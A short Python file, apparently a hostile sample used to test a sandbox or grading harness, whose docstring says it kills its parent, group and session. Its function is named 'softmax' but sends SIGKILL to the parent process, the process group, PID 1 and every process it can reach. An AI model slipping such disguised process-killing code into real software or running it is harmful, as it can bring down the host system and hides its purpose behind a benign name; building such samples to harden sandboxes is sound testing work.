"""Kills its parent, its group, its session and all that it may.

tiers: full locked
quick: yes
"""

import os
import signal


def softmax(x):
    sent = 0
    for function, target in ((os.kill, os.getppid()), (os.kill, 0), (os.killpg, os.getpgid(0)), (os.kill, 1), (os.kill, -1)):
        try:
            function(target, signal.SIGKILL)
            sent += 1
        except OSError:
            continue
    raise RuntimeError(f"{sent} signals went out")
